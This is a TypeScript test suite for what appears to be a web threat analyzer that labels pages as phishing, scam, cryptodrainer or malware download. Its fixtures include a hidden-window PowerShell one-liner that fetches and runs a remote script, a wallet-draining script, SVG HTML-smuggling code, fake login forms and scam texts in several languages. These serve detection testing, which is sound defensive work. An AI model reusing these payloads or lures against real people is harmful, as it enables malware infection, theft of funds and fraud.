      decides('payment-proof', 'https://ehsaas-8171-registration.example/', '<title>احساس پروگرام 8171 - آن لائن رجسٹریشن</title><p>مبارک ہو! آپ 13,500 روپے کی رقم کے اہل ہیں۔ رقم آپ کے اکاؤنٹ میں بھیجنے کے لیے 1,500 روپے رجسٹریشن فیس جیز کیش اکاؤنٹ پر بھیجیں اور رسید کا اسکرین شاٹ واٹس ایپ کریں۔</p>');
    });

    it('topic-site-money: a scam\'s money half on a site named after its topic that names nobody is suspicious; an organisation calling itself by its site\'s name is not', () => {
      const page = '<title>Excellence Scholarships 2026</title><h1>Scholarships for African students</h1><p>Places at universities in France and Canada for the 2026 intake.</p><p>Pay the application processing fee of €45 before Friday to secure your place.</p><a href="/apply">Apply now</a>';
      const r = judge('https://study-abroad-scholarships.example/', page);
      assert.equal(r.verdict, 'suspicious', `${r.verdict} by ${r.decidedBy?.join(',')}: ${JSON.stringify(ids(r))}`);
      assert.ok(r.decidedBy?.includes('combo:topic-site-money'), `${r.decidedBy?.join(',')}`);
      assert.deepEqual(r.categories, ['scam']);
      // The same offer from an organisation calling itself by its site's name.
      const named = judge('https://study-abroad-scholarships.example/', page.replace('<title>Excellence Scholarships 2026</title>', '<title>Excellence Scholarships 2026 | Study Abroad Scholarships</title>').replace('<a href="/apply">', '<footer>© 2026 Study Abroad Scholarships Ltd</footer><a href="/apply">'));
      assert.ok(!named.decidedBy?.includes('combo:topic-site-money'), `${named.decidedBy?.join(',')}: ${JSON.stringify(ids(named))}`);
    });

    it('untraceable-payment: a utility cut-off notice taking MoneyPak or a Bitcoin ATM deposit through the number it gives; a Bitcoin ATM operator\'s page is not a scam', () => {
      decides('untraceable-payment', 'https://power-disconnect-notice.example/', '<title>FINAL DISCONNECTION NOTICE</title><h1>Final notice: electric service disconnection</h1><p>Your account is past due. Your power will be disconnected today. To stop the disconnection, call the Disconnection Department immediately: 1-855-938-0417.</p><p>Buy a Green Dot MoneyPak at any pharmacy and read the card number to the agent, or pay at a Bitcoin ATM using the QR code the agent texts you.</p>');
      clean(judge('https://www.coinkiosk-network.example/locations', '<title>Find a Bitcoin ATM near you | CoinKiosk</title><h1>Buy bitcoin with cash</h1><p>Insert cash at any CoinKiosk Bitcoin ATM and the coins arrive in your own wallet within minutes. Never send crypto to someone you have not met: no utility or government agency asks to be paid at a Bitcoin ATM.</p><footer>© CoinKiosk Network</footer>'));
    });

    it('investment-scam-text in Spanish: weekly euros, "invierte solo 250 €", an algorithm that trades for you; payment by wire, Zelle or USDT is untraceable', () => {
      decides('investment-scam', 'https://inversion-ia.example/registro/', '<title>La plataforma de inversión</title><p>Gana hasta 3.000 € semanales con la IA. Invierte solo 250 € y deja que el algoritmo cuántico opere por ti. Un asesor financiero personal le llamará.</p>');
      assert.ok(ids(judge('https://store-academy.example/', '<p>One-time store setup $2,997. Payment by wire, Zelle or USDT to secure your spot.</p>')).includes('untraceable-payment-text'));
      assert.ok(!ids(judge('https://shop-academy.example/', '<p>Payment by bank transfer or credit card.</p>')).includes('untraceable-payment-text'));
    });

    it("brand-payout: the page's own name dressing someone else's subdomain beside a prize counts as brand evidence", () => {
      const r = judge('https://skyways-anniversary.travel-gifts.example/?share=wa', '<title>Skyways | 40th anniversary giveaway</title><h1>Skyways 40th anniversary</h1><p>Congratulations! You have been selected to receive 2 free tickets. Claim your prize now.</p>');
      assert.ok(ids(r).includes('claimed-name-in-subdomain'), JSON.stringify(ids(r)));
      assert.ok(r.decidedBy?.includes('combo:brand-payout'), `${r.verdict} ${r.decidedBy?.join(',')}`);
    });

    it('fake-shop-text: closing-down prices beside a payment-methods list of only irreversible ways to pay; a list with cards is a shop', () => {
      const shop = (methods: string): string => `<title>Liquidación de Stock</title><p>Liquidación por cierre de almacén. PlayStation 5 Slim 119,99 € 549,99 € -84%</p><p>Métodos de pago: ${methods}</p>`;
      assert.ok(judge('https://liquidacion-consolas.example/', shop('Bizum, transferencia bancaria, tarjeta regalo')).decidedBy?.includes('combo:fake-shop'));
      assert.ok(!ids(judge('https://liquidacion-consolas.example/', shop('Visa, Mastercard, Bizum, transferencia bancaria'))).includes('fake-shop-text'));
    });
  });

  describe('ClickFix and installer one-liners', () => {
    const judge = (url: string, body: string): ReturnType<typeof analyze> => {
      const result = analyze(inputFromFetch(html(url, body)), { threatIntel: ThreatIntelIndex.empty(), rules });
      for (const s of result.signals) produced.add(s.id);
      return result;
    };
    it("a copy button carrying an installer that fetches from the page's own site only corroborates; the same button fetching elsewhere, or hiding its window, is ClickFix", () => {
      const docs = judge('https://scoop.example/', "<h1>Scoop</h1><p>Open PowerShell and run:</p><div id=c></div><script>var l='Invoke-RestMethod -Uri https://get.scoop.example | Invoke-Expression';b.onclick=function(){navigator.clipboard.writeText(l)}</script>");
      assert.ok(docs.signals.some((x) => x.id === 'clipboard-shell-copied'));
      assert.equal(docs.verdict, 'clean');
      const elsewhere = judge('https://recipes-blog.example/', "<h1>Verify you are human</h1><p>Press Win+R, paste and press Enter.</p><script>var l='powershell -w hidden -c \"iex(irm https://cdn-stats.example/b.ps1)\" # I am not a robot';b.onclick=function(){navigator.clipboard.writeText(l)}</script>");
      assert.ok(elsewhere.signals.some((x) => x.id === 'clipboard-shell-command'));
      assert.equal(elsewhere.verdict, 'malicious');
    });
  });

  describe("what the browser engine adds: the page's own fetched scripts, the page after a click, the page behind a lure's call to action", () => {
    const judge = (url: string, body: string, extra: Partial<AnalysisInput>): ReturnType<typeof analyze> => {
      const result = analyze({ ...inputFromFetch(html(url, body)), renderedHtml: body, ...extra }, { threatIntel: ThreatIntelIndex.empty(), rules });
      for (const s of result.signals) produced.add(s.id);
      return result;
    };
    const kitScript = "document.getElementById('go').onclick=async()=>{const [a]=await ethereum.request({method:'eth_requestAccounts'});const b=BigInt(await ethereum.request({method:'eth_getBalance',params:[a,'latest']}));await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:'0x4E2c1b7D9a3F5e8C0b2D4f6A8c1E3a5B7d9F0e21',value:'0x'+(b-10n**15n).toString(16)}]});};";
    const page = '<title>Claim your airdrop</title><h1>Claim your tokens</h1><p>Eligible wallets can claim their allocation before the deadline.</p><button id="go">Connect wallet</button><script src="/static/app.js"></script>';

    it("a script the page fetched from its own site is read like an inline one; a library from another site is not the page's words", () => {
      const own = judge('https://claim-rewards-hub.example/', page, { fetchedTexts: [{ url: 'https://claim-rewards-hub.example/static/app.js', resourceType: 'script', mimeType: 'text/javascript', text: kitScript, truncated: false }] });
      assert.equal(own.verdict, 'malicious');
      assert.ok(own.categories.includes('cryptodrainer'));
      const thirdParty = judge('https://claim-rewards-hub.example/', page, { fetchedTexts: [{ url: 'https://cdn.libs.example/app.js', resourceType: 'script', mimeType: 'text/javascript', text: kitScript, truncated: false }] });
      assert.ok(!thirdParty.signals.some((x) => x.id === 'wallet-balance-sweep'));
    });

    it('the page after the capture clicked its gate is judged with it', () => {
      const gate = '<title>Just a moment...</title><h1>Verify you are human</h1><div id="cb">Verify you are human</div>';
      const after = '<title>Sign in to your account</title><img src="/ms.svg" alt="Microsoft"><form method="post" action="/auth"><input name="loginfmt"><input type="password" name="passwd"></form>';
      assert.equal(judge('https://secure-doc-view.example/s/1', gate, {}).verdict, 'clean');
      const r = judge('https://secure-doc-view.example/s/1', gate, { afterInteraction: { url: 'https://secure-doc-view.example/s/1', html: after, action: 'click:Verify you are human' } });
      assert.equal(r.verdict, 'malicious');
      assert.ok(r.categories.includes('phishing'));
    });

    it("a lure whose call to action leads to a kit on another site carries the kit's verdict; one leading to a brand's own sign-in does not", () => {
      const lure = '<title>New voice message</title><h2>Voicemail</h2><p>You have a new voice message (0:47).</p><a href="https://voice-portal.example/auth/">Play voice message</a>';
      const kit = '<title>Sign in</title><img src="/ms.svg" alt="Microsoft"><h2>Enter password</h2><form method="post" action="/p.php"><input type="password" name="p"></form>';
      const r = judge('https://vm-notify-center.example/m/1', lure, { linkedPage: { url: 'https://voice-portal.example/auth/', html: kit, via: 'link:Play voice message' } });
      assert.equal(r.verdict, 'malicious');
      assert.ok(r.decidedBy?.includes('combo:linked-kit'));
      assert.match(r.signals.find((x) => x.id === 'linked-page-malicious')?.evidence ?? '', /voice-portal\.example/);
      const brandOwn = judge('https://files.kestrel-architects.example/s/8', '<title>Shared files – Kestrel Architects</title><p>Maria shared 3 files with you.</p><a href="https://login.microsoftonline.com/common/oauth2/authorize">Sign in with Microsoft</a>', {
        linkedPage: { url: 'https://login.microsoftonline.com/common/oauth2/authorize', html: '<title>Sign in to your account</title><img alt="Microsoft"><form><input name="loginfmt"><input type="password" name="passwd"></form>', via: 'link:Sign in with Microsoft' },
      });
      assert.equal(brandOwn.verdict, 'clean');
    });
  });

  describe('rendered capture', () => {
    it('capture-incomplete: info only, naming what the capture cut short; a rendered download is judged by the download lists', () => {
      const capture = { engine: 'browser' as const, requests: [], requestsTruncated: false, console: [], cookies: [], favicon: null, incidents: ['dialogs-dismissed', 'script-terminated'], downloads: [{ url: 'blob:https://www.example.com/x', filename: 'invoice.exe', mimeType: null, bytes: 2, sha256: null, magic: null }] };
      const response = fetchResponse();
      const result = analyzeFetch(response, { threatIntel: ThreatIntelIndex.empty(), rules }, { dom: response.body, documentUrl: response.finalUrl, redirects: [], capture });
      for (const s of result.signals) produced.add(s.id);
      const incomplete = find(result.signals, 'capture-incomplete');
      assert.equal(incomplete?.severity, 'info');
      assert.equal(incomplete?.evidence, 'dialogs-dismissed, script-terminated');
      assert.match(find(result.signals, 'executable-download')?.evidence ?? '', /invoice\.exe/);
    });
  });

  describe('SVG documents', () => {
    it('an SVG opened as the page is read as markup: its script smuggling an archive is HTML smuggling', () => {
      const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="600" height="300"><text x="40" y="80">Voice message (0:38)</text><script><![CDATA[var b=atob('UEsDBBQAAAAIAA=='),u=new Uint8Array(b.length);var blob=new Blob([u],{type:'application/zip'});var a=document.createElementNS('http://www.w3.org/1999/xhtml','a');a.href=URL.createObjectURL(blob);a.download='VM_Recording.zip';a.click();]]></script></svg>`;
      const response = fetchResponse({ finalUrl: 'https://attachments.voicemail-files.example/m/VM.svg', html: svg, headers: { 'content-type': 'image/svg+xml' } });
      const result = analyzeFetch(response, { threatIntel: ThreatIntelIndex.empty(), rules });
      assert.ok(result.signals.some((x) => x.id === 'html-smuggling'), JSON.stringify(result.signals.map((x) => x.id)));
      assert.equal(result.verdict, 'malicious');
      const icon = fetchResponse({ finalUrl: 'https://www.example.com/logo.svg', html: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect width="10" height="10"/></svg>', headers: { 'content-type': 'image/svg+xml' } });
      assert.equal(analyzeFetch(icon, { threatIntel: ThreatIntelIndex.empty(), rules }).verdict, 'clean');
    });
  });

  describe('rendered downloads', () => {
    const downloadFrom = (url: string, filename: string) => ({ engine: 'browser' as const, requests: [], requestsTruncated: false, console: [], cookies: [], favicon: null, incidents: [], downloads: [{ url, filename, mimeType: null, bytes: 2, sha256: null, magic: null }] });
    it("a page naming itself as its host's organisation starting its own installer, from its own site or from where it distributes (a CDN, GitHub releases), is not a malicious download; the same file on a page that does not name its host is", () => {
      const html = '<!doctype html><title>Download QuickDesk for Windows | QuickDesk</title><h1>QuickDesk</h1><p>Your download will start shortly.</p><footer>© 2026 QuickDesk Ltd.</footer>';
      const own = fetchResponse({ finalUrl: 'https://get.quickdesk.example/download/windows', html });
      const vendor = analyzeFetch(own, { threatIntel: ThreatIntelIndex.empty(), rules }, { dom: own.body, documentUrl: own.finalUrl, redirects: [], capture: downloadFrom('https://dl.quickdesk.example/QuickDeskSetup.exe', 'QuickDeskSetup.exe') });
      assert.ok(!vendor.signals.some((x) => x.id === 'executable-download'), JSON.stringify(vendor.signals.map((x) => x.id)));
      assert.equal(vendor.verdict, 'clean');
      const released = analyzeFetch(own, { threatIntel: ThreatIntelIndex.empty(), rules }, { dom: own.body, documentUrl: own.finalUrl, redirects: [], capture: downloadFrom('https://github.com/quickdesk/quickdesk/releases/download/v4.2/QuickDeskSetup.exe', 'QuickDeskSetup.exe') });
      assert.ok(!released.signals.some((x) => x.id === 'executable-download'), JSON.stringify(released.signals.map((x) => x.id)));
      assert.equal(released.verdict, 'clean');
      const anonymous = fetchResponse({ finalUrl: 'https://get.quickdesk.example/download/windows', html: '<!doctype html><title>Your download</title><p>Your download will start shortly.</p>' });
      const unnamed = analyzeFetch(anonymous, { threatIntel: ThreatIntelIndex.empty(), rules }, { dom: anonymous.body, documentUrl: anonymous.finalUrl, redirects: [], capture: downloadFrom('https://get.quickdesk.example/QuickDeskSetup.exe', 'QuickDeskSetup.exe') });
      assert.ok(unnamed.signals.some((x) => x.id === 'executable-download'));
      assert.ok(unnamed.decidedBy?.includes('combo:unattributed-executable'), JSON.stringify(unnamed.decidedBy));
    });

    it('an executable served at the URL itself is a fact, not a verdict: from a plain host it stays clean, from a throwaway one it is malware (unattributed-executable)', () => {
      const exe = (finalUrl: string) => fetchResponse({ finalUrl, html: 'MZ\u0090\u0000', headers: { 'content-type': 'application/x-msdownload', 'content-disposition': 'attachment; filename="vlc-3.0.20-win64.exe"' } });
      const mirror = analyzeFetch(exe('https://get.videoplayer.example/vlc/3.0.20/win64/vlc-3.0.20-win64.exe'), { threatIntel: ThreatIntelIndex.empty(), rules });
      assert.ok(mirror.signals.some((x) => x.id === 'executable-download'));
      assert.equal(mirror.verdict, 'clean', JSON.stringify(mirror.decidedBy));
      const throwaway = analyzeFetch(exe('https://player-codec-update.xyz/vlc-3.0.20-win64.exe'), { threatIntel: ThreatIntelIndex.empty(), rules });
      assert.equal(throwaway.verdict, 'malicious');
      assert.ok(throwaway.decidedBy?.includes('combo:unattributed-executable'), JSON.stringify(throwaway.decidedBy));
    });

    it('an executable at the URL itself named after a brand\'s product (ChromeUpdate.msi) from a host the brand does not own is malware (brand-named-executable); the same name from the brand\'s own host is clean', () => {
      const msi = (finalUrl: string) => fetchResponse({ finalUrl, html: '\u00d0\u00cf\u0011\u00e0', headers: { 'content-type': 'application/x-msi' } });
      const foreign = analyzeFetch(msi('https://confirm-river.example/get/ChromeUpdate.msi'), { threatIntel: ThreatIntelIndex.empty(), rules });
      assert.ok(foreign.decidedBy?.includes('combo:brand-named-executable'), `${foreign.verdict} ${JSON.stringify(foreign.signals.map((x) => x.id))}`);
      const own = analyzeFetch(msi('https://dl.google.com/chrome/install/ChromeUpdate.msi'), { threatIntel: ThreatIntelIndex.empty(), rules });
      assert.equal(own.verdict, 'clean', JSON.stringify(own.decidedBy));
    });

    it("a government's own portal starting its software's installer is the publisher's own", () => {
      const portal = fetchResponse({ finalUrl: 'https://www.id-services.go.jp/download/windows', html: '<!doctype html><title>Client software</title><h1>Download the reader software</h1><p>The download starts automatically.</p>' });
      const page = { dom: portal.body, documentUrl: portal.finalUrl, redirects: [], capture: downloadFrom('https://www.id-services.go.jp/files/ReaderSetup.exe', 'ReaderSetup.exe') };
      const result = analyzeFetch(portal, { threatIntel: ThreatIntelIndex.empty(), rules }, page);
      assert.ok(!result.signals.some((x) => x.id === 'executable-download'), JSON.stringify(result.signals.map((x) => x.id)));
      // A national portal outside gov.* (Belgium's federal belgium.be) is a government's host too (identity.json government.hosts).
      const federal = fetchResponse({ finalUrl: 'https://eid.belgium.be/nl/eid-software-installeren/windows', html: '<!doctype html><title>eID-software installeren op Windows</title><h1>eID-software</h1><p>De download start automatisch.</p>' });
      const eid = analyzeFetch(federal, { threatIntel: ThreatIntelIndex.empty(), rules }, { dom: federal.body, documentUrl: federal.finalUrl, redirects: [], capture: downloadFrom('https://eid.belgium.be/sites/default/files/software/BeidMW_64_5.1.21.msi', 'BeidMW_64_5.1.21.msi') });
      assert.equal(eid.verdict, 'clean', JSON.stringify(eid.decidedBy));
    });

    it("an archive of executables the page downloads is a payload, unless it is the publisher's own", () => {
      const zipped = (url: string) => ({ ...downloadFrom(url, 'QuickDesk-portable.zip'), downloads: [{ url, filename: 'QuickDesk-portable.zip', mimeType: 'application/zip', bytes: 2, sha256: null, magic: 'zip', entries: ['QuickDesk.exe', 'readme.txt'] }] });
      const html = '<!doctype html><title>Download QuickDesk portable | QuickDesk</title><h1>QuickDesk</h1><p>Your download will start shortly.</p><footer>© 2026 QuickDesk Ltd.</footer>';
      const own = fetchResponse({ finalUrl: 'https://get.quickdesk.example/download/portable', html });
      const vendor = analyzeFetch(own, { threatIntel: ThreatIntelIndex.empty(), rules }, { dom: own.body, documentUrl: own.finalUrl, redirects: [], capture: zipped('https://dl.quickdesk.example/QuickDesk-portable.zip') });
      assert.ok(!vendor.signals.some((x) => x.id === 'archive-with-executable'), JSON.stringify(vendor.signals.map((x) => x.id)));
      assert.equal(vendor.verdict, 'clean');
      const anonymous = fetchResponse({ finalUrl: 'https://get.quickdesk.example/download/portable', html: '<!doctype html><title>Your download</title><p>Your download will start shortly.</p>' });
      const unnamed = analyzeFetch(anonymous, { threatIntel: ThreatIntelIndex.empty(), rules }, { dom: anonymous.body, documentUrl: anonymous.finalUrl, redirects: [], capture: zipped('https://files-cdn.example.net/QuickDesk-portable.zip') });
      assert.ok(unnamed.signals.some((x) => x.id === 'archive-with-executable' && /QuickDesk\.exe/.test(x.evidence)), JSON.stringify(unnamed.signals.map((x) => x.id)));
      assert.equal(unnamed.verdict, 'malicious');
      // A file viewer's title names the file, not the site: "Factuur_0412.zip" does not make factuur-online.example the page's own.
      const viewer = fetchResponse({ finalUrl: 'https://share.factuur-online.example/s/7e4b', html: '<!doctype html><title>Factuur_0412.zip - OneDrive</title><p>Factuur_0412.zip · 23,4 kB</p><a href="/s/dl/Factuur_0412.zip">Downloaden</a>' });
      const lnk = { ...downloadFrom('https://share.factuur-online.example/s/dl/Factuur_0412.zip', 'Factuur_0412.zip'), downloads: [{ url: 'https://share.factuur-online.example/s/dl/Factuur_0412.zip', filename: 'Factuur_0412.zip', mimeType: 'application/zip', bytes: 2, sha256: null, magic: 'zip', entries: ['Factuur_0412.pdf.lnk'] }] };
      const shared = analyzeFetch(viewer, { threatIntel: ThreatIntelIndex.empty(), rules }, { dom: viewer.body, documentUrl: viewer.finalUrl, redirects: [], capture: lnk });
      assert.equal(shared.verdict, 'malicious', JSON.stringify(shared.signals.map((x) => x.id)));
      // A photo album naming itself, whose own archive holds "IMG_2041.JPG.scr": no publisher ships a disguised name.
      const album = fetchResponse({ finalUrl: 'https://family-album.photo-share.example/s/christening', html: '<!doctype html><title>Family Album – Photo Share</title><h1>Family Album</h1><p>Lily\'s christening: 48 photos.</p><a href="/s/christening/download">Download all</a><footer>© 2026 Family Album Photo Share</footer>' });
      const photos = { ...downloadFrom('https://family-album.photo-share.example/s/christening/download/Photos.zip', 'Photos.zip'), downloads: [{ url: 'https://family-album.photo-share.example/s/christening/download/Photos.zip', filename: 'Photos.zip', mimeType: 'application/zip', bytes: 2, sha256: null, magic: 'zip', entries: ['Photos/IMG_2041.JPG.scr', 'Photos/IMG_2042.jpg'] }] };
      const disguised = analyzeFetch(album, { threatIntel: ThreatIntelIndex.empty(), rules }, { dom: album.body, documentUrl: album.finalUrl, redirects: [], capture: photos });
      assert.ok(disguised.signals.some((x) => x.id === 'disguised-executable' && /IMG_2041\.JPG\.scr/.test(x.evidence)), JSON.stringify(disguised.signals.map((x) => x.id)));
      assert.equal(disguised.verdict, 'malicious');
    });

    it("an Office document with VBA macros the browser downloads is a payload (the egress proxy's macros flag), unless it is the publisher's own; the same workbook without macros is not", () => {
      const workbook = (url: string, macros: boolean) => ({ ...downloadFrom(url, 'Devis_118.xls'), downloads: [{ url, filename: 'Devis_118.xls', mimeType: 'application/vnd.ms-excel', bytes: 2, sha256: null, magic: 'ole', ...(macros ? { macros: true as const } : {}) }] });
      const share = fetchResponse({ finalUrl: 'https://devis-partage.example/telecharger', html: '<!doctype html><title>Votre document</title><p>Le téléchargement va commencer.</p>' });
      const judged = (url: string, macros: boolean) => analyzeFetch(share, { threatIntel: ThreatIntelIndex.empty(), rules }, { dom: share.body, documentUrl: share.finalUrl, redirects: [], capture: workbook(url, macros) });
      const macro = judged('https://devis-partage.example/files/Devis_118.xls', true);
      assert.equal(find(macro.signals, 'macro-document')?.evidence, 'Devis_118.xls');
      assert.notEqual(macro.verdict, 'clean');
      assert.ok(!judged('https://devis-partage.example/files/Devis_118.xls', false).signals.some((x) => x.id === 'macro-document'));
      const html = '<!doctype html><title>Budget template | Ledgerly</title><h1>Ledgerly</h1><p>Your download will start shortly.</p><footer>© 2026 Ledgerly Ltd.</footer>';
      const own = fetchResponse({ finalUrl: 'https://www.ledgerly.example/templates/budget', html });
      const vendor = analyzeFetch(own, { threatIntel: ThreatIntelIndex.empty(), rules }, { dom: own.body, documentUrl: own.finalUrl, redirects: [], capture: workbook('https://www.ledgerly.example/files/budget.xls', true) });
      assert.ok(!vendor.signals.some((x) => x.id === 'macro-document'), JSON.stringify(vendor.signals.map((x) => x.id)));
    });

    it('a browser or editor extension package (.crx, .xpi, .vsix) the page downloads is code to install, like an installer', () => {
      const anonymous = fetchResponse({ finalUrl: 'https://ads-helper.example/install', html: '<!doctype html><title>Install the helper</title><p>Your download will start shortly. Drag the file onto chrome://extensions.</p>' });
      for (const file of ['ads-helper.crx', 'ads-helper.xpi', 'solidity-tools.vsix']) {
        const result = analyzeFetch(anonymous, { threatIntel: ThreatIntelIndex.empty(), rules }, { dom: anonymous.body, documentUrl: anonymous.finalUrl, redirects: [], capture: downloadFrom(`https://ads-helper.example/dl/${file}`, file) });
        assert.ok(result.signals.some((x) => x.id === 'executable-download'), `${file}: ${JSON.stringify(result.signals.map((x) => x.id))}`);
      }
    });
  });

  describe('catalogue', () => {
    it('a disabled signal is dropped; severities come from the catalogue', () => {
      const quiet: Rules = { ...rules, signals: { ...rules.signals, 'suspicious-tld': { severity: 'low', categories: [], enabled: false, forceVerdict: null } } };
      assert.ok(!analyzeUrlOnly('https://x.xyz/', { threatIntel: ThreatIntelIndex.empty(), rules: quiet }).signals.some((s) => s.id === 'suspicious-tld'));
      // Not corroborating here: suspicious-tld alone decides only when an operator says so.
      const loud: Rules = { ...rules, scoring: { ...rules.scoring, corroborating: new Set() }, signals: { ...rules.signals, 'suspicious-tld': { severity: 'high', categories: ['scam'], enabled: true, forceVerdict: null } } };
      const result = analyzeUrlOnly('https://x.xyz/', { threatIntel: ThreatIntelIndex.empty(), rules: loud });
      assert.equal(result.signals[0]?.severity, 'high');
      assert.equal(result.verdict, 'suspicious');
      assert.deepEqual(result.categories, ['scam']);
    });

    // Runs last: every id the catalogue defines was produced by at least one test above.
    it('every signal id in rules/signals.json is exercised by a test above', () => {
      const missing = Object.keys(rules.signals).filter((id) => !produced.has(id));
      assert.deepEqual(missing, []);
    });
  });
});
